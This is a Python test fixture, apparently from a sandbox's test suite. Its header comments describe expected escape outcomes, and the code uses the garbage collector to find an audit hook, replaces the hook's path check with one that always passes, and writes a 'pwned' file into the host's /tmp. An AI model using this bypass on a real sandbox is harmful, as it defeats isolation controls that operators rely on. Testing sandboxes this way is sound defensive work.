# hostile: find the audit hook through gc, replace its path check, then write into the machine's /tmp
# (the escape is the file appearing in the host's /tmp; a private /tmp may let the write succeed, so the exit status
# does not matter)
# escapes-fallback: the throwaway uid may write the world-writable /tmp, and only the audit hook (which gc reaches) is in the way
# escapes-fallback-no-ns: the throwaway uid may write the world-writable /tmp, and only the audit hook (which gc reaches) is in the way
import gc
import sys
for obj in gc.get_objects():
    if type(obj).__name__ == 'function' and obj.__name__ == 'hook' and obj.__closure__:
        for cell in obj.__closure__:
            if getattr(cell.cell_contents, '__name__', '') == 'inside':
                cell.cell_contents = lambda path: True
open('/tmp/escaped_by_sandbox.txt', 'w').write('pwned')
sys.exit(1)
